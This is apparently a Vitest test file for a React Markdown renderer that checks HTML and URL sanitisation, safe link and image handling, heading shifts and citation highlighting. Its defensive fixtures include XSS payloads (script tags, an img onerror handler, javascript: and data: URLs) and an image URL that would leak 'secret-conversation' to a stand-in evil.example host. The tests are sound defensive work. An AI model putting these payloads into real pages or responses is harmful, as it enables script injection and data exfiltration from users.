import { parseAnnotatedResponse } from '@syfthub/client';
import { fireEvent, render, screen } from '@testing-library/react';
import { MemoryRouter } from 'react-router';
import { describe, expect, it } from 'vitest';
import Markdown from '../src/markdown/Markdown';

function renderMarkdown(markdown: string, props: Partial<Parameters<typeof Markdown>[0]> = {}) {
  return render(
    <MemoryRouter>
      <Markdown {...props}>{markdown}</Markdown>
    </MemoryRouter>,
  );
}

describe('Markdown safety (web.md §7)', () => {
  it('shows raw HTML as text: <script> and <img onerror> stay inert', () => {
    const { container } = renderMarkdown(
      'Hello <script>window.pwned=1</script>\n\n<img src=x onerror="window.pwned=2">',
    );
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('img')).toBeNull();
    expect(container.textContent).toContain('<script>window.pwned=1</script>');
    expect(container.textContent).toContain('<img src=x onerror="window.pwned=2">');
    expect(container.innerHTML).not.toMatch(/<img[^>]*onerror/i);
  });

  it('removes javascript: and other unsafe URLs but keeps http, https, mailto and relative links', () => {
    const { container } = renderMarkdown(
      '[bad](javascript:alert(1)) [data](data:text/html,hi) [web](https://example.com) [mail](mailto:a@b.co) [rel](/browse)',
    );
    const hrefs = Array.from(container.querySelectorAll('a')).map((a) => a.getAttribute('href'));
    expect(hrefs).not.toContain('javascript:alert(1)');
    expect(hrefs.some((href) => href?.startsWith('data:'))).toBe(false);
    expect(hrefs).toEqual(expect.arrayContaining(['https://example.com', 'mailto:a@b.co', '/browse']));
  });

  it('opens external links safely, draws only embedded images, private and lazy', () => {
    const { container } = renderMarkdown(
      '[x](https://example.com) ![logo](https://example.com/a.png) ![px](data:image/png;base64,iVBOR) ![no](javascript:alert(1))',
    );
    const link = container.querySelector('a[href="https://example.com"]');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    const images = Array.from(container.querySelectorAll('img'));
    expect(images.map((img) => img.getAttribute('src'))).toEqual(['data:image/png;base64,iVBOR']);
    for (const img of images) {
      expect(img).toHaveAttribute('referrerpolicy', 'no-referrer');
      expect(img).toHaveAttribute('loading', 'lazy');
    }
  });

  it('turns remote and relative images into links the reader may open, never loading them (issue 19 defect 9)', () => {
    const { container } = renderMarkdown(
      'Answer ![](https://evil.example/?d=secret-conversation) ![chart](/api/v1/x.png) ![logo](https://example.com/a.png "Logo")',
    );
    expect(container.querySelectorAll('img')).toHaveLength(0);
    expect(container.innerHTML).not.toMatch(/<img[^>]*evil/);
    const links = Array.from(container.querySelectorAll('a.md-image-link'));
    expect(links.map((a) => [a.getAttribute('href'), a.textContent])).toEqual([
      ['https://evil.example/?d=secret-conversation', 'Image: untitled (evil.example)'],
      ['/api/v1/x.png', `Image: chart (${window.location.host})`],
      ['https://example.com/a.png', 'Image: logo (example.com)'],
    ]);
    for (const a of links) {
      expect(a).toHaveAttribute('target', '_blank');
      expect(a).toHaveAttribute('rel', 'noopener noreferrer nofollow');
      expect(a).toHaveAttribute('referrerpolicy', 'no-referrer');
    }
    expect(links[2]).toHaveAttribute('title', 'Logo');
  });

  it('shifts README headings so the page keeps one h1', () => {
    const { container } = renderMarkdown('# Title\n\n## Section', { shiftHeadings: true });
    expect(container.querySelector('h1')).toBeNull();
    expect(container.querySelector('h2')).toHaveTextContent('Title');
    expect(container.querySelector('h3')).toHaveTextContent('Section');
  });

  it('renders GFM tables and highlighted code as elements', () => {
    const { container } = renderMarkdown(
      '| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x: number = 1;\n```',
    );
    expect(container.querySelector('table')).not.toBeNull();
    expect(container.querySelector('code.hljs, code .hljs-keyword')).not.toBeNull();
  });
});

describe('citations', () => {
  const sources = [
    {
      title: 'ACME contract › Termination',
      slug: 'alice/legal-docs',
      content: '7. Termination. Either party may end this agreement.',
    },
    { title: 'Handbook', slug: 'bob/handbook', content: 'Notice periods are thirty days.' },
  ];

  it('highlights cited sentences and adds badges that open the source card', () => {
    const parsed = parseAnnotatedResponse(
      'Clause 7 covers **termination**. [cite:1-0:32] Notice is 30 days. [cite:1,2-34:52]',
    );
    const { container } = renderMarkdown(parsed.text, { citations: { spans: parsed.spans, sources } });
    const marks = container.querySelectorAll('mark.cite-highlight');
    expect(
      Array.from(marks)
        .map((m) => m.textContent)
        .join('|'),
    ).toBe('Clause 7 covers |termination|.|Notice is 30 days.');
    const badges = screen.getAllByRole('button', { name: /^Source \d/ });
    expect(badges.map((b) => b.textContent)).toEqual(['1', '1', '2']);
    expect(container.textContent).not.toContain('[cite:');
    fireEvent.focus(badges[2] as HTMLElement);
    const card = screen.getByRole('tooltip');
    expect(card).toHaveTextContent('Handbook');
    expect(card).toHaveTextContent('Notice periods are thirty days.');
    expect(screen.getByRole('link', { name: 'bob/handbook' })).toHaveAttribute('href', '/bob/handbook');
  });

  it('merges identical spans into one highlight with both badges', () => {
    const parsed = parseAnnotatedResponse('Both agree. [cite:1-0:11][cite:2-0:11]');
    const { container } = renderMarkdown(parsed.text, { citations: { spans: parsed.spans, sources } });
    expect(container.querySelectorAll('mark.cite-highlight')).toHaveLength(1);
    expect(screen.getAllByRole('button', { name: /^Source/ }).map((b) => b.textContent)).toEqual(['1', '2']);
  });

  it('handles emoji before a citation', () => {
    const parsed = parseAnnotatedResponse('😀 Happy days. [cite:2-0:13]');
    const { container } = renderMarkdown(parsed.text, { citations: { spans: parsed.spans, sources } });
    expect(container.querySelector('mark.cite-highlight')).toHaveTextContent('😀 Happy days.');
  });
});
